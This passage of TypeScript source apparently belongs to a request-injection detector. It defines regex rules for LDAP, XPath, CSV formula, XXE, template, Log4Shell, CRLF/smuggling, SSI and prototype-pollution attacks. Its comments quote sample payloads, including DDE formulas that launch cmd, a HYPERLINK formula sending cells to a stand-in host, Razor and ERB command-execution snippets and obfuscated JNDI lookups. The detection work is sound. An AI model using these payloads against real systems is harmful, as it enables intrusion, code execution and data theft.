import { M } from '../normalize/charmask.js';
import type { View } from '../normalize/views.js';
import { re } from '../patterns.js';
import { excerpt, rule, type Emitter, type Item, type ValueDetector } from '../rule.js';

/** LDAP filter injection (RFC 4515): a value that closes the filter and opens another. */
const LDAP = {
  breakout: rule('ldapi', 'ldapi.filter-breakout', 1, 5, 'closes an LDAP filter and opens a new one'),
  composite: rule('ldapi', 'ldapi.filter-composite', 2, 3, 'LDAP composite filter syntax'),
  wildcard: rule('ldapi', 'ldapi.wildcard-filter', 2, 5, 'LDAP composite filter with a presence test (attr=*) that matches every entry'),
};
const LDAP_BREAKOUT = re('\\)\\s{0,4}[|&!]?\\s{0,4}\\(\\s{0,4}(?:[|&!]|[a-z][\\w-]{0,40}\\s{0,4}[~<>]?=)|^\\s{0,4}\\*\\s{0,4}\\)|\\*\\)\\s{0,4}\\(\\s{0,4}(?:\\(|[a-z][\\w-]{0,40}\\s{0,4}(?:[~<>]?=|\\)))', 'i');
const LDAP_COMPOSITE = re('\\(\\s{0,4}[|&!]\\s{0,4}\\(\\s{0,4}[a-z][\\w-]{0,40}\\s{0,4}[~<>]?=', 'i');

export const ldapDetector: ValueDetector = {
  name: 'ldapi',
  rules: Object.values(LDAP),
  trigger: M.PAREN,
  inspect(view: View, _item: Item, out: Emitter): void {
    const m = LDAP_BREAKOUT.exec(view.text);
    if (m !== null) out.emit(LDAP.breakout, excerpt(view.text, m.index));
    else {
      const c = LDAP_COMPOSITE.exec(view.text);
      if (c !== null) out.emit(view.text.includes('=*)') ? LDAP.wildcard : LDAP.composite, excerpt(view.text, c.index));
    }
  },
};

/**
 * XPath injection: a value that closes a string literal and the predicate around it (`'] | //user/*`, `'] or
 * '1'='1`), or a function argument (`') | //*`), and goes on as a path or a condition of the query.
 */
const XPATH = {
  breakout: rule('xpathi', 'xpathi.predicate-breakout', 1, 5, 'closes an XPath string and predicate, then adds a union, a condition or a path'),
};
const XPATH_BREAKOUT = re('[\'"]\\s{0,8}\\]\\s{0,8}(?:\\|\\s{0,8}(?:/{1,2}\\s{0,4}[a-z*@(]|\\(|[a-z][\\w-]{0,30}\\s{0,4}(?:/|\\[))|(?:or|and)\\s{1,8}(?:[\'"\\d(]|(?:contains|starts-with|name|local-name|string-length|substring|count|not|text|position|last)\\s{0,4}\\()|/{1,2}\\s{0,4}(?:[a-z*@][\\w-]{0,30}\\s{0,4})?(?:\\[|\\||/))|[\'"]\\s{0,8}\\)\\s{0,8}\\|\\s{0,8}(?:/{1,2}\\s{0,4}[a-z*@(]|\\()', 'gi');

function countChar(s: string, c: string, end: number): number {
  let n = 0;
  for (let i = s.indexOf(c); i !== -1 && i < end; i = s.indexOf(c, i + 1)) n++;
  return n;
}

export const xpathDetector: ValueDetector = {
  name: 'xpathi',
  rules: Object.values(XPATH),
  trigger: M.BRACKET | M.PAREN,
  inspect(view: View, _item: Item, out: Emitter): void {
    if ((view.mask & (M.QUOTE | M.DQUOTE)) === 0) return;
    const s = view.text;
    // A quote that closes a literal the value opened itself (`//div[@class='x']/i`, an XPath the API takes) is
    // the value's own syntax: an odd number of the same quotes before it.
    XPATH_BREAKOUT.lastIndex = 0;
    for (let m = XPATH_BREAKOUT.exec(s), n = 0; m !== null && n < 8; m = XPATH_BREAKOUT.exec(s), n++) {
      if (countChar(s, s[m.index] ?? '', m.index) % 2 === 0) {
        out.emit(XPATH.breakout, excerpt(s, m.index));
        return;
      }
    }
  },
};

/**
 * CSV (formula) injection: a cell a spreadsheet will evaluate when the export is opened. Formulas as such are data
 * (`=SUM(A1:A10)` in a spreadsheet API); two shapes are not: DDE, which runs a program (`=cmd|' /C calc'!A0`,
 * `=DDE("cmd";...)`), and a fetching function that sends other cells to a URL (`=HYPERLINK("http://x/?"&A2,...)`,
 * `=IMPORTXML(CONCAT("http://x/?",A2:E2),...)`).
 */
const CSV = {
  dde: rule('csv-injection', 'csv.dde', 1, 5, 'spreadsheet DDE formula that runs a program (cmd|\'...\'!A0, =DDE(...))'),
  exfiltration: rule('csv-injection', 'csv.exfiltration', 1, 5, 'spreadsheet formula that sends other cells to a URL (HYPERLINK, IMPORTXML, WEBSERVICE...)'),
};
const DDE = re("\\b[a-z][\\w.]{1,20}\\|'[^'\\r\\n]{0,300}'!['a-z_$]|(?:^|[=+@\\-(;,\\s\"])(?:dde|ddeauto)\\s{0,4}\\(", 'i');
const FETCH_FORMULA = re('[=+@-]\\s{0,8}(?:hyperlink|importxml|importdata|importhtml|importfeed|image|webservice|filterxml)\\s{0,4}\\(', 'i');
/** A cell reference joined into the URL (`&A2`, `A2&`, `CONCATENATE(A2:E2)`); a range read from a sheet is not. */
const CELL_JOIN = re('&\\s{0,4}\\$?[a-z]{1,3}\\$?\\d{1,7}\\b|\\b\\$?[a-z]{1,3}\\$?\\d{1,7}\\s{0,4}&|\\b(?:concat|concatenate|textjoin)\\s{0,4}\\([^()]{0,200}\\b[a-z]{1,3}\\d{1,7}\\b', 'i');

export const csvDetector: ValueDetector = {
  name: 'csv-injection',
  rules: Object.values(CSV),
  trigger: M.PIPE | M.PAREN,
  inspect(view: View, _item: Item, out: Emitter): void {
    const s = view.text;
    const l = view.lower;
    if (((view.mask & (M.PIPE | M.QUOTE | M.EXCL)) === (M.PIPE | M.QUOTE | M.EXCL) || l.includes('dde')) && DDE.test(s)) {
      out.emit(CSV.dde, excerpt(s, s.search(DDE)));
      return;
    }
    if ((view.mask & M.PAREN) !== 0 && (view.mask & (M.EQ | M.PLUS | M.AT | M.DASH)) !== 0 && l.includes('http')) {
      const f = FETCH_FORMULA.exec(s);
      if (f !== null && CELL_JOIN.test(s.slice(f.index, f.index + 600))) out.emit(CSV.exfiltration, excerpt(s, f.index));
    }
  },
};

/** XML external entities (and XInclude): DOCTYPE with an internal subset or external id, ENTITY declarations. */
const XXE = {
  entity: rule('xxe', 'xxe.entity', 1, 5, 'XML entity declaration'),
  doctype: rule('xxe', 'xxe.external-doctype', 1, 5, 'DOCTYPE with an internal subset or external DTD'),
  xinclude: rule('xxe', 'xxe.xinclude', 1, 5, 'XInclude element'),
  doctypePlain: rule('xxe', 'xxe.doctype', 3, 3, 'DOCTYPE declaration in a request'),
};
const DOCTYPE = re('<!doctype\\s{1,16}[\\w:.-]{1,64}\\s{0,16}(?:\\[|(?:system|public)\\s)', 'i');

export const xxeDetector: ValueDetector = {
  name: 'xxe',
  rules: Object.values(XXE),
  trigger: M.LT,
  documents: true,
  inspect(view: View, item: Item, out: Emitter): void {
    const l = view.lower;
    if (item.kind !== 'xml' && view.via === 'raw' && item.kind !== 'body' && item.kind !== 'query') return;
    const e = l.indexOf('<!entity');
    if (e !== -1) out.emit(XXE.entity, excerpt(view.text, e));
    const d = DOCTYPE.exec(l);
    if (d !== null) out.emit(XXE.doctype, excerpt(view.text, d.index));
    else if (l.includes('<!doctype')) out.emit(XXE.doctypePlain, excerpt(view.text, l.indexOf('<!doctype')));
    if (l.includes('xi:include') || l.includes('xmlns:xi=')) out.emit(XXE.xinclude, excerpt(view.text, l.indexOf('xi')));
  },
};

/** Server-side template injection: template delimiters around expressions that reach objects or evaluate. */
const SSTI = {
  expression: rule('ssti', 'ssti.object-traversal', 1, 5, 'template expression reaching runtime objects'),
  arithmetic: rule('ssti', 'ssti.probe', 1, 5, 'template expression evaluating arithmetic (a probe)'),
  directive: rule('ssti', 'ssti.directive', 1, 5, 'template engine directive that executes code'),
};
// `${{` before `${`: the longer opener must win or `${{7*7}}` reads as `{7*7`.
// `@(` is Razor's explicit expression.
const TEMPLATE_OPEN = re('(?:\\{\\{|\\$\\{\\{|\\$\\{|#\\{|\\*\\{|@\\{|@\\(|<%=?|\\{%|\\[\\[)', 'g');
const SSTI_DANGER = re('__(?:class|mro|subclasses|globals|builtins|init|import|base|bases)__|\\b(?:getclass|forname|getruntime|processbuilder|runtime|classloader|getmethod|newinstance|invoke|popen|os\\.system|subprocess|request\\.application|self\\._|lipsum|cycler|joiner|url_for|get_flashed_messages|config\\.items|constructor|app\\.request|dump|subclasses|settings\\.(?:secret\\w{0,20}|databases|caches|email_host_password|aws_\\w{1,30})|_self\\.env|registerundefinedfiltercallback|getfilter|exec|eval|system|require|process|child_process|import|t\\s{0,4}\\(\\s{0,4}java)\\b|\\|\\s{0,4}attr\\s{0,4}\\(|\\.\\s{0,4}getclass|\\?new\\s{0,4}\\(', 'i');
const SSTI_ARITH = re('^\\s{0,8}\\d{1,6}\\s{0,8}[*+/-]\\s{0,8}\\d{1,6}\\s{0,8}$|^\\s{0,8}\\d{1,6}\\s{0,8}\\*\\s{0,8}["\']\\d{1,6}["\']', '');
const SSTI_DIRECTIVE = re('@\\{\\s{0,8}\\[|<#assign\\b|<#import\\b|#set\\s{0,4}\\(\\s{0,4}\\$|\\$class\\.inspect|#foreach\\s{0,4}\\(|\\{%\\s{0,8}(?:import|include|extends|macro|debug|load)\\s|\\{%-?\\s{0,8}if\\s{1,8}(?:true|false|none|\\d{1,6}(?:\\s{0,4}[*+/=<>!-]{1,2}\\s{0,4}\\d{1,6}){0,2})\\s{0,8}-?%\\}|freemarker\\.template\\.utility|\\?(?:new|api|eval|interpret)\\b|<#(?:if|elseif|list|function|macro|attempt|setting|local|global|include)\\s|<%=?\\s{0,8}(?:if|for|while|end\\w{0,8}|import|include)\\b[^%]{0,100}%>', 'i');

/** C# is case-sensitive: `@System.IO.File.ReadAllText(`, not an address at system.io. */
const RAZOR_DOTNET = re('@System\\s{0,2}\\.\\s{0,2}(?:Diagnostics|IO|Reflection|Net|Runtime|Environment|AppDomain|Activator|Management)\\s{0,2}\\.\\s{0,2}[A-Z]\\w{0,40}\\s{0,2}[.(]', '');

/** ERB: Ruby's file, directory and process classes (`<%= Dir.entries('/') %>`, `<%= IO.popen('id').read %>`). */
const RUBY_RUNTIME = re('\\b(?:Dir|File|IO|Open3|Kernel|Process|ObjectSpace)\\s{0,4}(?:\\.|::)\\s{0,4}[a-z_]', '');

/** Jinja2 / Flask objects a probe prints whole (`{{config}}` dumps the app's settings, secret key included). */
const JINJA_GLOBALS = new Set(['config', 'self', 'request.environ', 'request.application', 'settings', 'session', 'g', 'request.__class__', 'url_for', 'lipsum', 'cycler', 'joiner', 'namespace', 'get_flashed_messages', 'app']);

const SSTI_TRIGGER = M.BRACE | M.LT | M.HASH | M.DOLLAR | M.BRACKET | M.QUESTION;

export const sstiDetector: ValueDetector = {
  name: 'ssti',
  rules: Object.values(SSTI),
  trigger: SSTI_TRIGGER | M.AT,
  inspect(view: View, _item: Item, out: Emitter): void {
    const s = view.text;
    // Razor's implicit expression on a .NET namespace (`@System.Diagnostics.Process.Start("cmd.exe")`).
    if ((view.mask & M.AT) !== 0 && s.includes('@System.')) {
      const r = RAZOR_DOTNET.exec(s);
      if (r !== null) out.emit(SSTI.expression, excerpt(s, r.index));
    }
    // '@' alone (every e-mail address) only for Razor's `@(`.
    if ((view.mask & SSTI_TRIGGER) === 0 && ((view.mask & M.PAREN) === 0 || !s.includes('@('))) return;
    const dir = SSTI_DIRECTIVE.exec(s);
    if (dir !== null) out.emit(SSTI.directive, excerpt(s, dir.index));
    if (s.length <= 64 && isDelimiterPolyglot(s)) out.emit(SSTI.arithmetic, excerpt(s, 0));
    TEMPLATE_OPEN.lastIndex = 0;
    let m: RegExpExecArray | null;
    let n = 0;
    while ((m = TEMPLATE_OPEN.exec(s)) !== null && n++ < 16) {
      const open = m[0];
      const close = open === '{{' || open === '${{' ? '}}' : open.startsWith('<%') ? '%>' : open === '{%' ? '%}' : open === '[[' ? ']]' : open === '@(' ? ')' : '}';
      const from = m.index + open.length;
      const end = s.indexOf(close, from);
      const inner = s.slice(from, end === -1 ? Math.min(s.length, from + 400) : Math.min(end, from + 400));
      if (inner.toLowerCase().startsWith('jndi:')) continue;
      // ERB / JSP scriptlets: a back-tick in Ruby runs a shell command.
      if (SSTI_DANGER.test(inner) || (open.startsWith('<%') && (inner.includes('`') || RUBY_RUNTIME.test(inner))) || (open === '{{' && end !== -1 && JINJA_GLOBALS.has(inner.trim().toLowerCase()))) out.emit(SSTI.expression, excerpt(s, m.index));
      else if (end !== -1 && SSTI_ARITH.test(inner)) out.emit(SSTI.arithmetic, excerpt(s, m.index));
      TEMPLATE_OPEN.lastIndex = Math.max(TEMPLATE_OPEN.lastIndex, from);
    }
  },
};

/**
 * The template-engine fuzzing probe (`${{<%[%'"}}%\\.`): a short value made of the delimiters of several engines at
 * once, so whichever engine renders it fails with a tell-tale error. Three different engines' openers are code.
 */
const DELIMITERS = ['${', '{{', '<%', '#{', '[%', '{%', '*{', '@{'];

function isDelimiterPolyglot(s: string): boolean {
  let n = 0;
  for (const d of DELIMITERS) if (s.includes(d)) n++;
  return n >= 3;
}

/** Log4Shell: `${jndi:...}` after resolving the nested lookups used to hide it (`${${lower:j}ndi:`, `${::-j}`). */
const JNDI = {
  lookup: rule('jndi', 'jndi.lookup', 1, 5, 'JNDI lookup (Log4Shell)'),
  // 5: in a logged value Log4j 2.0-2.14 expands it (message lookups), writing secrets where log readers see them,
  // and scanners send it alone to test for the lookup before trying JNDI.
  otherLookup: rule('jndi', 'jndi.log4j-lookup', 1, 5, 'Log4j lookup that leaks environment or system properties'),
};

export function resolveLookups(s: string): string {
  let cur = s;
  for (let round = 0; round < 8; round++) {
    let changed = false;
    let out = '';
    let i = 0;
    while (i < cur.length) {
      const open = cur.indexOf('${', i);
      if (open === -1) {
        out += cur.slice(i);
        break;
      }
      const close = cur.indexOf('}', open + 2);
      const inner = close === -1 ? '' : cur.slice(open + 2, close);
      if (close === -1 || inner.includes('${')) {
        out += cur.slice(i, open + 2);
        i = open + 2;
        continue;
      }
      out += cur.slice(i, open);
      const low = inner.toLowerCase();
      const dash = inner.indexOf(':-');
      if (dash !== -1) out += inner.slice(dash + 2);
      else if (low.startsWith('lower:') || low.startsWith('upper:')) out += inner.slice(6);
      else if (low.startsWith('jndi:')) out += '\u0001JNDI:' + inner.slice(5) + '\u0002';
      else out += '\u0001' + inner + '\u0002';
      changed = true;
      i = close + 1;
    }
    cur = out;
    if (!changed) break;
  }
  return cur;
}

export const jndiDetector: ValueDetector = {
  name: 'jndi',
  rules: Object.values(JNDI),
  trigger: M.DOLLAR | M.COLON,
  inspect(view: View, _item: Item, out: Emitter): void {
    const l = view.lower;
    if (l.includes('jndi:') && (l.includes('${') || l.includes('ldap') || l.includes('rmi') || l.includes('dns'))) {
      out.emit(JNDI.lookup, excerpt(view.text, l.indexOf('jndi:')));
      return;
    }
    if (l.indexOf('${') === -1) return;
    const r = resolveLookups(view.text);
    if (r.includes('\u0001JNDI:') || r.toLowerCase().includes('jndi:')) out.emit(JNDI.lookup, excerpt(r.replaceAll('\u0001', '').replaceAll('\u0002', ''), 0));
    else if (leakLookup(r.toLowerCase())) out.emit(JNDI.otherLookup, excerpt(view.text, l.indexOf('${')));
  },
};

/** Log4j prefixes are case-insensitive (`${EnV:...}`); these read the environment, properties or decode a payload. */
function leakLookup(r: string): boolean {
  return r.includes('\u0001env:') || r.includes('\u0001sys:') || r.includes('\u0001java:') || r.includes('\u0001ctx:') || r.includes('\u0001base64:');
}

/** CRLF injection: a value that carries a new header line, a new request or response (splitting, smuggling). */
const CRLF = {
  header: rule('crlf', 'crlf.header-injection', 1, 5, 'line break followed by a header field'),
  request: rule('crlf', 'crlf.request-smuggling', 1, 5, 'an HTTP request or status line inside a value'),
  path: rule('crlf', 'crlf.in-path', 1, 5, 'line break in the request path'),
  mail: rule('mail', 'mail.header-injection', 1, 5, 'line break followed by a mail header (To, Cc, Bcc...)'),
  mailProtocol: rule('mail', 'mail.protocol-injection', 1, 5, 'line break followed by an SMTP or IMAP command'),
  splitting: rule('crlf', 'crlf.response-splitting', 1, 5, 'blank line followed by markup or a status line (a second message body)'),
  log: rule('crlf', 'crlf.log-injection', 2, 5, 'line break followed by a forged log record (a timestamp or a log level)'),
};
/**
 * A log record's start after a line break: an ISO 8601 or syslog timestamp, Apache's `[10/Oct/2024:13:55:36`, or
 * an upper-case level (`INFO `, `[ERROR]`). In a value that has no lines of its own, that is a forged log entry.
 */
const LOG_LINE = re('[\\r\\n][\\t ]{0,4}\\[?(?:\\d{4}-\\d\\d-\\d\\d[t ]\\d\\d:\\d\\d|\\d\\d/[a-z]{3}/\\d{4}:\\d\\d|(?:jan|feb|mar|apr|may|jun|jul|aug|sep|oct|nov|dec) {1,2}\\d{1,2} \\d\\d:\\d\\d:\\d\\d)', 'i');
const LOG_LEVEL = re('[\\r\\n][\\t ]{0,4}\\[?(?:INFO|WARN|WARNING|ERROR|DEBUG|TRACE|FATAL|CRITICAL|NOTICE|AUDIT)\\]?(?::|[\\t ]{1,4}[A-Za-z])');
const HEADER_LINE = re('[\\r\\n][\\t ]{0,4}([a-z][a-z0-9-]{1,40})[\\t \\r]{0,8}:[\\t ]{0,8}[^\\s]', 'i');
const HTTP_LINE = re('(?:get|post|put|delete|head|options|patch|trace|connect|propfind)\\s{1,8}[^\\s]{1,2000}\\s{1,8}http/\\d|[\\r\\n][\\t ]{0,4}(?:http/\\d(?:\\.\\d)?\\s{1,8}\\d{3}\\b|(?:get|post|put|delete|head|options|patch|trace|connect)\\s{1,8}/)', 'i');
/** A value that is a whole request line: request-line injection into a client the application drives. */
const REQUEST_LINE = re('^\\s{0,8}(?:get|post|put|delete|head|options|patch|trace|connect|propfind)\\s{1,8}[^\\s]{1,2000}\\s{1,8}http/\\d(?:\\.\\d)?\\s{0,8}$', 'i');
const BLANK_THEN_BODY = re('\\r?\\n\\r?\\n[\\t ]{0,4}(?:<|http/\\d)', 'i');
const MAIL_COMMAND = re('[\\r\\n][\\t ]{0,4}(?:mail\\s{1,4}from\\s{0,4}:|rcpt\\s{1,4}to\\s{0,4}:|(?:helo|ehlo|vrfy|expn)\\s|(?:data|quit|rset)\\s{0,4}(?:[\\r\\n]|$)|[a-z]\\d{1,6}\\s(?:append|login|select|fetch|store|copy|uid|examine|create|delete|rename|list|lsub|status|logout|capability|authenticate|search|expunge|subscribe)\\b|(?:retr|dele|top|apop|uidl)\\s{1,4}\\d|apop\\s{1,4}\\S{1,64}\\s{1,4}[0-9a-f]{32})', 'i');
/** IMAP tagged commands with their argument syntax (`a1 store 2 +flags`, `a1 logout`). */
const IMAP_COMMAND = re('[\\r\\n][\\t ]{0,4}[a-z0-9]{1,8}[\\t ]{1,4}(?:(?:uid[\\t ]{1,4})?(?:store|fetch|copy)[\\t ]{1,4}\\d{1,9}(?::(?:\\d{1,9}|\\*))?[\\t ]{1,4}(?:[+-]?flags|\\(|body|rfc822|envelope|all|fast|full|uid|inbox)|(?:logout|capability|noop|quit)[\\t ]{0,4}(?:[\\r\\n]|$))', 'i');
/** POP3 LIST n alone on a line; SMTP AUTH with a mechanism, or a name and a base64 credential. */
const POP_SMTP_COMMAND = re('[\\r\\n][\\t ]{0,4}(?:list[\\t ]{1,4}\\d{1,6}[\\t ]{0,4}(?:[\\r\\n]|$)|auth[\\t ]{1,4}(?:plain|login|cram-md5|digest-md5|xoauth2|oauthbearer|gssapi|ntlm|scram-sha-1|scram-sha-256|[a-z0-9-]{1,20}[\\t ]{1,4}[a-z0-9+/]{8,200}={0,2}[\\t ]{0,4}(?:[\\r\\n]|$)))', 'i');
const MAIL_HEADERS = new Set(['to', 'cc', 'bcc', 'from', 'subject', 'reply-to', 'sender', 'return-path', 'x-mailer', 'mime-version']);
const HTTP_HEADERS = new Set(['set-cookie', 'location', 'content-type', 'content-length', 'transfer-encoding', 'host', 'refresh', 'x-forwarded-for', 'cookie', 'content-disposition', 'access-control-allow-origin', 'x-xss-protection', 'link', 'authorization', 'connection', 'cache-control', 'x-forwarded-host', 'expect', 'upgrade', 'referer', 'user-agent']);

export const crlfDetector: ValueDetector = {
  name: 'crlf',
  rules: Object.values(CRLF),
  trigger: M.NEWLINE | M.SLASH | M.NONASCII,
  inspect(view: View, item: Item, out: Emitter): void {
    // A raw text body has lines of its own; only a whole request in it (a request line, then a Host field) counts.
    if (item.kind === 'body' && item.location === 'body') {
      if ((view.mask & M.NEWLINE) !== 0 && view.lower.includes(' http/')) {
        const at = embeddedRequest(view.text);
        if (at >= 0) out.emit(CRLF.request, excerpt(view.text, at));
      }
      return;
    }
    let s = view.text;
    // `嘊嘍` (U+560A U+560D): a server that truncates characters to bytes writes LF and CR (Node.js CVE-2018-12116).
    // Only where the value may reach a header or a request line (CJK prose in bodies has such characters: 上 is U+4E0A).
    if ((view.mask & (M.NONASCII | M.NEWLINE)) === M.NONASCII) {
      // A body value read through a decoding layer (`%E5%98%8A` in a JSON string) was written to hide them.
      const t = (item.kind === 'body' || item.kind === 'xml') && view.via === 'raw' ? undefined : truncatedBreaks(s);
      if (t === undefined) {
        if ((view.mask & M.SLASH) === 0) return;
      } else s = t;
    }
    if ((view.mask & M.NEWLINE) === 0 && s === view.text) {
      if (view.lower.includes(' http/') && REQUEST_LINE.test(s)) out.emit(CRLF.request, excerpt(s, 0));
      return;
    }
    // A base64 path segment that decodes to lines (a CSV, a document) puts no line break in the request line; what
    // the lines say is read below as for any other value.
    if (item.kind === 'path' && view.via !== 'base64') {
      out.emit(CRLF.path, excerpt(s.replaceAll('\r', '\\r').replaceAll('\n', '\\n'), 0));
      return;
    }
    // Multi-line free text in a body (a message, a forwarded mail, an address block) legitimately has "Name: value"
    // lines; a URL part, a cookie or a header value has no lines at all, nor has a body field that names a single
    // line (`subject`, `email`): there a header after the first line (`Hi\r\nBcc: x\r\n\r\nbody`) counts.
    const free = item.kind === 'body' || item.kind === 'xml';
    const lines = free ? countLines(s) : 0;
    if (!free || singleLineField(item.location)) {
      const g = LOG_LINE.exec(s) ?? LOG_LEVEL.exec(s);
      if (g !== null) out.emit(CRLF.log, excerpt(s, g.index + 1));
    }
    const h = HEADER_LINE.exec(s);
    if (h !== null) {
      const name = (h[1] ?? '').toLowerCase();
      const known = MAIL_HEADERS.has(name) || HTTP_HEADERS.has(name);
      if (lines <= 3 || (known && s.lastIndexOf('\n', h.index - 1) === -1 && singleLineField(item.location))) {
        if (MAIL_HEADERS.has(name)) out.emit(CRLF.mail, excerpt(s, h.index));
        else if (known || name.includes('-') || item.kind === 'key' || item.kind === 'header' || item.kind === 'cookie') out.emit(CRLF.header, excerpt(s, h.index));
      }
    }
    // Headers, cookies and URL parts never carry a message body; form text areas do, so only those places.
    if (item.kind !== 'body' && item.kind !== 'xml' && item.kind !== 'filename') {
      const b = BLANK_THEN_BODY.exec(s);
      if (b !== null) out.emit(CRLF.splitting, excerpt(s, b.index));
    }
    const r = HTTP_LINE.exec(s);
    if (r !== null) out.emit(CRLF.request, excerpt(s, r.index));
    const m = MAIL_COMMAND.exec(s) ?? IMAP_COMMAND.exec(s) ?? POP_SMTP_COMMAND.exec(s);
    if (m !== null) out.emit(CRLF.mailProtocol, excerpt(s, m.index));
  },
};

const REQUEST_LINE_ANYWHERE = re('(?:get|post|put|delete|head|options|patch|trace|connect|propfind)[\\t ]{1,8}[^\\s]{1,2000}[\\t ]{1,8}http/\\d(?:\\.\\d)?[\\t ]{0,8}\\r?\\n', 'gi');
const HOST_FIELD = re('[\\r\\n][\\t ]{0,4}host[\\t ]{0,4}:[\\t ]{0,8}[^\\s]', 'i');

/**
 * Where a request line followed within its next lines (2 KB) by a Host field starts in a raw body, or -1: a second
 * request written into the body, for a front end and a back end that frame the message differently.
 */
function embeddedRequest(s: string): number {
  REQUEST_LINE_ANYWHERE.lastIndex = 0;
  for (let n = 0; n < 8; n++) {
    const m = REQUEST_LINE_ANYWHERE.exec(s);
    if (m === null) return -1;
    const end = m.index + m[0].length - 1;
    if (HOST_FIELD.test(s.slice(end, end + 2048))) return m.index;
  }
  return -1;
}

const SINGLE_LINE_FIELDS = new Set(['subject', 'title', 'email', 'e-mail', 'mail', 'from', 'to', 'cc', 'bcc', 'reply-to', 'reply_to', 'replyto', 'sender', 'recipient', 'name', 'username', 'first_name', 'last_name', 'firstname', 'lastname', 'url', 'redirect', 'filename', 'phone']);

/** The body field's own name (`body:subject`, `body:/message/subject`) is one of a line's: a subject, an address. */
function singleLineField(location: string): boolean {
  const cut = Math.max(location.lastIndexOf('/'), location.lastIndexOf(':'), location.lastIndexOf('.'));
  return SINGLE_LINE_FIELDS.has(location.slice(cut + 1).toLowerCase());
}

/** The text with each character whose low byte is LF or CR written as that byte, or undefined when none is. */
function truncatedBreaks(s: string): string | undefined {
  let out: string | undefined;
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    if (c > 0xff && ((c & 0xff) === 10 || (c & 0xff) === 13)) {
      out ??= s.slice(0, i);
      out += (c & 0xff) === 10 ? '\n' : '\r';
    } else if (out !== undefined) out += s[i];
  }
  return out;
}

function countLines(s: string): number {
  let n = 1;
  for (let i = s.indexOf('\n'); i !== -1 && n < 10; i = s.indexOf('\n', i + 1)) n++;
  return n;
}

/** Server-side includes (Apache mod_include): `<!--#exec cmd=...-->`. */
const SSI = {
  directive: rule('ssi', 'ssi.directive', 1, 5, 'server-side include directive'),
  esi: rule('ssi', 'ssi.esi-tag', 1, 5, 'Edge Side Includes tag (a caching proxy fetches or evaluates it)'),
};
const SSI_RE = re('<!--\\s{0,4}#\\s{0,4}(?:exec|include|echo|config|printenv|fsize|flastmod|set|if|elif)\\b', 'i');
const ESI_RE = re('<\\s{0,4}esi:(?:include|inline|vars|eval|debug|assign|choose|when|try|attempt|except|remove|comment|text|function|param|otherwise)\\b|<!--esi\\b', 'i');

export const ssiDetector: ValueDetector = {
  name: 'ssi',
  rules: Object.values(SSI),
  trigger: M.LT,
  inspect(view: View, _item: Item, out: Emitter): void {
    const m = SSI_RE.exec(view.text);
    if (m !== null) out.emit(SSI.directive, excerpt(view.text, m.index));
    if (view.lower.includes('esi')) {
      const e = ESI_RE.exec(view.text);
      if (e !== null) out.emit(SSI.esi, excerpt(view.text, e.index));
    }
  },
};

/** Prototype pollution: `__proto__` or `constructor.prototype` as keys (JSON, bracketed query keys, dotted paths). */
const PROTO = {
  key: rule('prototype-pollution', 'proto.key', 1, 5, '__proto__ or constructor.prototype used as a key'),
  value: rule('prototype-pollution', 'proto.in-value', 2, 3, '__proto__ referenced in a value'),
  assignment: rule('prototype-pollution', 'proto.path-assignment', 1, 5, 'a prototype path assigned inside a value (a nested query string, JSON or dotted path)'),
  pythonClass: rule('prototype-pollution', 'proto.python-class-pollution', 1, 5, 'a path through Python object internals (__class__.__init__.__globals__): class pollution'),
  ormLookup: rule('nosqli', 'nosqli.orm-secret-lookup', 2, 5, 'ORM filter lookup on a secret field (field__startswith leaks it character by character)'),
  ormRelations: rule('nosqli', 'nosqli.orm-relation-lookup', 2, 5, 'ORM filter lookup across three or more relations (a__b__c__startswith reads related tables)'),
  ormJson: rule('nosqli', 'nosqli.orm-json-lookup', 3, 3, 'ORM filter lookup probing JSON keys or containment (data__has_key)'),
};
/** Django-style field lookups (the last `__` segment of a filter key). */
const ORM_LOOKUPS = new Set('exact iexact contains icontains in gt gte lt lte startswith istartswith endswith iendswith range isnull regex iregex search has_key has_keys has_any_keys contained_by overlap'.split(' '));
const ORM_JSON_LOOKUPS = new Set(['has_key', 'has_keys', 'has_any_keys', 'contained_by', 'overlap']);

/**
 * `created_by__departments__user__username__startswith`: a filter key an ORM (Django, and the filter layers
 * modelled on it) turns into joins and a condition. A client walking three relations reads other tables one
 * character at a time (ORM leak); one lookup on the endpoint's own field (`created__gte`, `name__icontains`) or on
 * one relation (`author__name__icontains`) is ordinary filtering and passes.
 */
function ormRelations(view: View, out: Emitter): void {
  const parts = view.lower.split('__');
  if (parts.length < 3 || parts.length > 12) return;
  for (const p of parts) if (!isIdentifier(p)) return;
  const lookup = parts[parts.length - 1] as string;
  if (!ORM_LOOKUPS.has(lookup)) return;
  if (parts.length >= 4) out.emit(PROTO.ormRelations, excerpt(view.text, 0));
  else if (ORM_JSON_LOOKUPS.has(lookup)) out.emit(PROTO.ormJson, excerpt(view.text, 0));
}

/** A non-empty run of lower-case letters, digits and single underscores. */
function isIdentifier(p: string): boolean {
  if (p === '' || p.length > 64) return false;
  for (let i = 0; i < p.length; i++) {
    const c = p.charCodeAt(i);
    if (!((c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 95)) return false;
  }
  return true;
}
/**
 * Field names that hold secrets, as a regex alternation: a filter on one leaks it (the ORM-leak rule here, Strapi's
 * `filters[password][...]` in the NoSQL detector). Every name contains pass, secret, token, key, hash, salt, otp or
 * pwd: the gates before these regexes test those stems.
 */
export const SECRET_FIELD_NAMES = 'password|passwd|pwd|password_?hash|secret|token|api_?key|hash|salt|otp|reset_?password_?token|reset_?token|confirmation_?token|session_?key';
/** Django / Prisma-style lookups whose field is a secret: `password__startswith`, `user__token__regex`. */
const ORM_SECRET = re('(?:^|__|\\.|\\[)(?:' + SECRET_FIELD_NAMES + ')(?:__|\\]\\[\\$?|\\.)(?:i?startswith|i?endswith|i?contains|i?regex|i?exact|gte?|lte?|in|isnull|range|starts_?with|ends_?with)\\b', 'i');
/** `__proto__[x]=`, `constructor[prototype][x]=`, `"__proto__":{`, `__proto__.x=`: a path through the prototype that is assigned. */
const PROTO_ASSIGN = re('(?:__proto__|constructor\\s{0,4}(?:\\[\\s{0,4}["\']?|\\.)\\s{0,4}prototype)\\s{0,4}["\']?\\s{0,4}(?:\\]\\s{0,4})?(?:(?:\\[[^\\]=]{0,40}\\]|\\.[\\w$]{1,40})\\s{0,4}=|["\']?\\s{0,4}:\\s{0,4}\\{)', 'i');

/**
 * Python's object internals. A merge that sets attributes along a path (`{"__class__": {"__init__": {"__globals__":
 * ...}}}`, pydash `set_(obj, "__class__.__init__.__globals__.x", v)`) walks from any object to the module's globals:
